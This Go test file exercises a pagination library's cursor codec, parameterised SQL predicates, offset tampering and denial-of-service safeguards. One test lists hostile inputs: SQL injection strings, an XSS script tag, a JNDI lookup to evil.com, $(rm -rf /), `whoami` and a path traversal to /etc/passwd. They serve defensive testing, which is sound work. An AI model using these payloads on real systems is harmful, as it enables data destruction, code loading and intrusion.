package paging_test

import (
	"context"
	"strings"

	"github.com/aarondl/sqlboiler/v4/queries/qm"
	"github.com/nrfta/seekpage"
	"github.com/nrfta/seekpage/cursor"
	"github.com/nrfta/seekpage/offset"
	"github.com/nrfta/seekpage/quotafill"
	"github.com/nrfta/seekpage/sqlboiler"
	"github.com/nrfta/seekpage/tests/models"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
)

var _ = Describe("Security Tests", func() {
	var (
		ctx     context.Context
		userIDs []string
	)

	BeforeEach(func() {
		ctx = context.Background()
		err := CleanupTables(ctx, container.DB)
		Expect(err).ToNot(HaveOccurred())

		userIDs, err = SeedUsers(ctx, container.DB, 100)
		Expect(err).ToNot(HaveOccurred())

		_, err = SeedPosts(ctx, container.DB, userIDs, 2)
		Expect(err).ToNot(HaveOccurred())
	})

	userFields := []cursor.FieldSpec{
		cursor.DescField("created_at", cursor.UtcDatetimeSeconds),
		cursor.DescField("id", cursor.Id),
	}

	Describe("Cursor Codec Safety", func() {
		It("never executes or interprets cursor content -- hostile strings just fail to decode", func() {
			hostile := []string{
				"'; DROP TABLE users; --",
				"1' OR '1'='1",
				"UNION SELECT * FROM users",
				"<script>alert('xss')</script>",
				"${jndi:ldap://evil.com/a}",
				"$(rm -rf /)",
				"`whoami`",
				"../../../etc/passwd",
			}

			for _, s := range hostile {
				_, err := cursor.Decode(cursor.Types(userFields), s)
				// Any outcome is safe here: the decoder only ever reaches
				// base64 -> JSON -> []any, there is no path from cursor
				// text to executed code or interpolated SQL.
				if err != nil {
					Expect(err).To(MatchError(cursor.ErrCursorCorrupt))
				}
			}
		})

		It("rejects a cursor whose decoded length differs from the field count (S7)", func() {
			wrongShape, err := cursor.Encode(
				cursor.Types([]cursor.FieldSpec{cursor.AscField("id", cursor.Id)}),
				[]any{"only-one-value"},
			)
			Expect(err).ToNot(HaveOccurred())

			_, err = cursor.Decode(cursor.Types(userFields), wrongShape)
			Expect(err).To(MatchError(cursor.ErrCursorCorrupt))
		})

		It("handles oversized cursor input without panicking", func() {
			huge := strings.Repeat("A", 1024*1024)
			_, err := cursor.Decode(cursor.Types(userFields), huge)
			Expect(err).To(HaveOccurred())
		})

		It("keeps predicate values out of the SQL text: BuildPredicate never embeds argument content", func() {
			hostileValue := "'; DROP TABLE users; --"
			clause, args, err := cursor.BuildPredicate(userFields, []any{hostileValue, "id-1"}, cursor.After)
			Expect(err).ToNot(HaveOccurred())

			Expect(clause).ToNot(ContainSubstring("DROP TABLE"))
			Expect(clause).To(ContainSubstring("?"))
			Expect(args).To(ContainElement(hostileValue))
		})
	})

	Describe("Offset Cursor Tampering", func() {
		It("round-trips negative offsets without sanitizing -- clamping is the paginator's job, not the codec's", func() {
			c := offset.EncodeCursor(-1)
			Expect(c).ToNot(BeNil())
			Expect(offset.DecodeCursor(c)).To(Equal(-1))
		})

		It("rejects malformed offset cursors by returning 0", func() {
			malformed := []string{
				"not-base64!@#$",
				"cursor:offset:",
				"cursor:offset:abc",
				"cursor:wrongtype:123",
				"",
			}
			for _, m := range malformed {
				Expect(offset.DecodeCursor(&m)).To(Equal(0), "cursor: %s", m)
			}
		})
	})

	Describe("Denial of Service Protection", func() {
		It("enforces the max-iterations safeguard when every row is filtered out", func() {
			fetcher := sqlboiler.NewFetcher(
				func(ctx context.Context, mods ...qm.QueryMod) ([]*models.User, error) {
					return models.Users(mods...).All(ctx, container.DB)
				},
				func(ctx context.Context, mods ...qm.QueryMod) (int64, error) {
					return models.Users(mods...).Count(ctx, container.DB)
				},
				sqlboiler.OffsetToQueryMods,
			)
			base := offset.New(fetcher)

			rejectAll := func(ctx context.Context, users []*models.User) ([]*models.User, error) {
				return nil, nil
			}

			paginator := quotafill.Wrap(base, rejectAll, nil, quotafill.WithMaxIterations(3))

			first := 10
			page, err := paginator.Paginate(ctx, &paging.PageArgs{First: &first})
			Expect(err).ToNot(HaveOccurred())
			Expect(page.Metadata.SafeguardHit).ToNot(BeNil())
			Expect(*page.Metadata.SafeguardHit).To(Equal("max_iterations"))
		})

		It("enforces the max-records-examined safeguard under a low filter pass rate", func() {
			fetcher := sqlboiler.NewFetcher(
				func(ctx context.Context, mods ...qm.QueryMod) ([]*models.User, error) {
					return models.Users(mods...).All(ctx, container.DB)
				},
				func(ctx context.Context, mods ...qm.QueryMod) (int64, error) {
					return models.Users(mods...).Count(ctx, container.DB)
				},
				sqlboiler.OffsetToQueryMods,
			)
			base := offset.New(fetcher)

			lowPassRate := func(ctx context.Context, users []*models.User) ([]*models.User, error) {
				if len(users) > 0 {
					return users[:1], nil
				}
				return users, nil
			}

			paginator := quotafill.Wrap(base, lowPassRate, nil, quotafill.WithMaxRecordsExamined(20))

			first := 50
			page, err := paginator.Paginate(ctx, &paging.PageArgs{First: &first})
			Expect(err).ToNot(HaveOccurred())
			Expect(page.Metadata.SafeguardHit).ToNot(BeNil())
			Expect(*page.Metadata.SafeguardHit).To(Equal("max_records"))
		})
	})

	Describe("Input Validation", func() {
		It("rejects an empty field list with ErrMissingFields", func() {
			_, err := cursor.BuildConfig[*models.User](nil, nil)
			Expect(err).To(MatchError(cursor.ErrMissingFields))
		})

		It("rejects a FieldSpec bound to an unknown join binding", func() {
			fields := []cursor.FieldSpec{cursor.BoundField("ghost", "created_at", cursor.UtcDatetimeSeconds, cursor.Desc)}
			cfg, err := cursor.BuildConfig[*models.User](fields, nil)
			Expect(err).ToNot(HaveOccurred())

			query := sqlboiler.NewQuery(cfg.Fields, map[string]string{})
			exec := sqlboiler.RowExecutor[*models.User]{Query: func(ctx context.Context, mods ...qm.QueryMod) ([]*models.User, error) {
				return models.Users(mods...).All(ctx, container.DB)
			}}

			_, err = cursor.Paginate(ctx, query, exec, nil, cfg, cursor.Options{Limit: 10})
			var unknownBinding *cursor.UnknownBindingError
			Expect(err).To(BeAssignableToTypeOf(unknownBinding))
		})
	})
})
